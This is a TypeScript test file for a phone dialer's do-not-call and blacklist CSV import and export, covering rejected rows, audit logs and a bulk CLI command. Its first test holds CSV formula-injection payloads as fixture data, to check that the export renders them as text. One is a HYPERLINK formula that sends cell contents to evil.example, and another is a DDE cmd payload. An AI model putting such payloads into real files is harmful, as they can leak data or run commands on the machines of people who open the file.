import { spawnSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportDncCsv, importBlacklistCsv, importDncCsv } from '../../src/import/dnc-csv.js';
import { createCampaign } from '../../src/store/repositories/campaigns.js';
import { addDncFromCall, dncTypesFor, removeDnc } from '../../src/store/repositories/dnc.js';
import { createTestDb, type TestDb } from '../support/db.js';
import { readRejects } from '../support/rejects.js';

let t: TestDb;
let dir: string;

beforeAll(async () => {
  t = await createTestDb();
  dir = await mkdtemp(join(tmpdir(), 'dialer-dnc-'));
});
afterAll(async () => {
  await t?.drop();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('DNC repository and CSV', () => {
  it('exports formulas as text and keeps good rows around a stray quote', async () => {
    const file = join(dir, 'evil.csv');
    await writeFile(
      file,
      'phone,type,reason,name\n' +
        '2125550701,all,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",-2+3\n' +
        '2125550702,all,@SUM(1+1),"+1+cmd|\' /C calc\'!A0"\n' +
        '2125550703,all,"Bo"b,x\n' +
        '2125550704,all,ok,ok\n',
    );
    const s = await importDncCsv(t.db, file, { defaultRegion: 'US', actor: 'test' });
    expect(s).toMatchObject({ read: 4, added: 3, rejected: 1 });
    const rejects = await readRejects(`${file}.rejects.csv`);
    expect(rejects.rows.map((r) => [r.row, r.field, r.code])).toEqual([['4', 'reason', 'unreadable-csv']]);
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await exportDncCsv(t.db, out);
    const lines = Buffer.concat(chunks).toString('utf8').split('\n');
    expect(lines.find((l) => l.startsWith('"+12125550701"'))).toMatch(
      /^"\+12125550701","all","'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1,""x""\)","'-2\+3","import","",/,
    );
    expect(lines.find((l) => l.startsWith('"+12125550702"'))).toMatch(
      /^"\+12125550702","all","'@SUM\(1\+1\)","'\+1\+cmd\|' \/C calc'!A0","import","",/,
    );
    for (const p of ['+12125550701', '+12125550702', '+12125550704']) await removeDnc(t.db, p, 'test');
  });

  it('imports entries, rejects bad rows with line and field, and exports them again', async () => {
    const file = join(dir, 'dnc.csv');
    await writeFile(
      file,
      'phone,type,reason,name\n' +
        '(212) 555-1234,marketing,asked on call,Alice\n' +
        '212-555-1234,survey,,Alice\n' +
        'garbage,all,,\n' +
        '4155552671,spam,,\n' +
        '4155552671,,,Bob\n',
    );
    const s = await importDncCsv(t.db, file, { defaultRegion: 'US', actor: 'test' });
    expect(s).toEqual({ read: 5, added: 3, rejected: 2, rejectsFile: `${file}.rejects.csv` });
    const rejects = await readRejects(`${file}.rejects.csv`);
    expect(rejects.mode).toBe(0o600);
    expect(rejects.rows.map((r) => [r.row, r.field, r.code])).toEqual([
      ['4', 'phone', 'bad-number'],
      ['5', 'type', 'bad-type'],
    ]);
    expect(rejects.rows[1]?.message).toMatch(/^type: "spam" is not one of/);
    expect((await dncTypesFor(t.db, '+12125551234')).sort()).toEqual(['marketing', 'survey']);
    expect(await dncTypesFor(t.db, '+14155552671')).toEqual(['all']);

    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    expect(await exportDncCsv(t.db, out)).toBe(3);
    const lines = Buffer.concat(chunks).toString('utf8').trim().split('\n');
    expect(lines[0]).toBe('"phone","type","reason","name","source","added_by","created_at"');
    expect(lines[1]).toMatch(/^"\+12125551234","marketing","asked on call","Alice","import","","\d{4}-/);
  });

  it('an agent adds the number of the call they are on; removal is audited', async () => {
    const c = await createCampaign(t.db, { code: 'dnc-call', name: 'x', purpose: 'care' });
    const [agent] = await t
      .db('agents')
      .insert({ username: 'amy', display_name: 'Amy' })
      .returning<{ id: number }[]>('id');
    const [lead] = await t
      .db('leads')
      .insert({ campaign_id: c.id, phone_e164: '+16465550123', timezone: 'America/New_York' })
      .returning<{ id: number }[]>('id');
    await t
      .db('calls')
      .insert({ id: 'c-l-a1', campaign_id: c.id, lead_id: lead!.id, attempt: 1, phone_e164: '+16465550123' });
    expect(await addDncFromCall(t.db, { callId: 'c-l-a1', agentId: agent!.id, type: 'care' })).toBe(
      '+16465550123',
    );
    const row = (await t.db('dnc_entries').where({ phone_e164: '+16465550123' }).first()) as Record<
      string,
      unknown
    >;
    expect(row).toMatchObject({ type: 'care', source: 'call', added_by: agent!.id, call_id: 'c-l-a1' });
    await expect(addDncFromCall(t.db, { callId: 'nope', agentId: agent!.id, type: 'care' })).rejects.toThrow(
      'callId: no call "nope"',
    );
    expect(await removeDnc(t.db, '+16465550123', 'test', 'care')).toBe(1);
    const audit = (await t
      .db('audit_log')
      .where({ entity: 'dnc', entity_id: '+16465550123' })
      .orderBy('id')
      .pluck('action')) as string[];
    expect(audit).toEqual(['dnc.add', 'dnc.remove']);
  });
});

describe('dnc blacklist --file: many numbers in one command', () => {
  it('blacklists the good rows in one transaction, rejects each bad row naming its row and field', async () => {
    const file = join(dir, 'complainers.csv');
    await writeFile(
      file,
      'phone,reason,name,complaint\n' +
        '212-555-0801,shouted,Ann,17\n' + // line 2
        '212-555-0802,,,\n' + // 3: no reason → the default
        'not-a-number,x,,\n' + // 4
        '212-555-0804,x,,abc\n' + // 5: bad complaint id
        '212-555-0805,"stray "quote,,\n' + // 6: unreadable line, only itself
        '+44 20 7946 0806,abroad,,\n', // 7
    );
    const s = await importBlacklistCsv(t.db, file, {
      defaultRegion: 'US',
      actor: 'test',
      defaultReason: 'bulk',
    });
    expect(s).toMatchObject({ read: 6, added: 3, rejected: 3, rejectsFile: `${file}.rejects.csv` });
    const rows = await t
      .db('blacklist')
      .orderBy('phone_e164')
      .select<{ phone_e164: string; reason: string; name: string | null; complaint_id: number | null }[]>(
        'phone_e164',
        'reason',
        'name',
        'complaint_id',
      );
    expect(rows).toEqual([
      { phone_e164: '+12125550801', reason: 'shouted', name: 'Ann', complaint_id: 17 },
      { phone_e164: '+12125550802', reason: 'bulk', name: null, complaint_id: null },
      { phone_e164: '+442079460806', reason: 'abroad', name: null, complaint_id: null },
    ]);
    const rejects = await readRejects(`${file}.rejects.csv`);
    expect(rejects.rows.map((r) => [r.row, r.field, r.code])).toEqual([
      ['4', 'phone', 'bad-number'],
      ['5', 'complaint', 'bad-value'],
      ['6', 'reason', 'unreadable-csv'],
    ]);
    expect(rejects.rows[1]?.message).toContain('"abc" is not a complaint id');
    const audited = await t.db('audit_log').where({ action: 'blacklist.add' }).pluck<string[]>('entity_id');
    expect(audited.sort()).toEqual(['+12125550801', '+12125550802', '+442079460806']);
    // Without a reason column or --reason, such rows are rejects, naming the field.
    const bare = join(dir, 'bare.csv');
    await writeFile(bare, 'phone\n212-555-0811\n');
    const b = await importBlacklistCsv(t.db, bare, { defaultRegion: 'US', actor: 'test' });
    expect(b).toMatchObject({ added: 0, rejected: 1 });
    expect((await readRejects(`${bare}.rejects.csv`)).rows.map((r) => [r.row, r.field, r.code])).toEqual([
      ['2', 'reason', 'missing-value'],
    ]);
  });

  it('the CLI takes 20 numbers in one command', async () => {
    const file = join(dir, 'twenty.csv');
    const phones = Array.from({ length: 20 }, (_, i) => `+1212555${String(900 + i).padStart(4, '0')}`);
    await writeFile(file, ['phone', ...phones].join('\n') + '\n');
    const started = Date.now();
    const r = spawnSync(
      process.execPath,
      ['--import', 'tsx', 'src/cli/main.ts', 'dnc', 'blacklist', '--file', file, '--reason', 'complaints'],
      {
        cwd: join(import.meta.dirname, '..', '..'),
        encoding: 'utf8',
        env: { ...process.env, DIALER_CONFIG: undefined, DIALER_DATABASE_URL: t.url },
      },
    );
    const ms = Date.now() - started;
    expect(r.stderr).toBe('');
    expect(r.stdout.trim()).toBe('read 20, blacklisted 20, rejected 0');
    expect(await t.db('blacklist').whereIn('phone_e164', phones).count<{ n: number }[]>({ n: '*' })).toEqual([
      { n: 20 },
    ]);
    console.log(`dnc blacklist --file: 20 numbers in one command, ${ms} ms (process start to exit)`);
  }, 60_000);
});
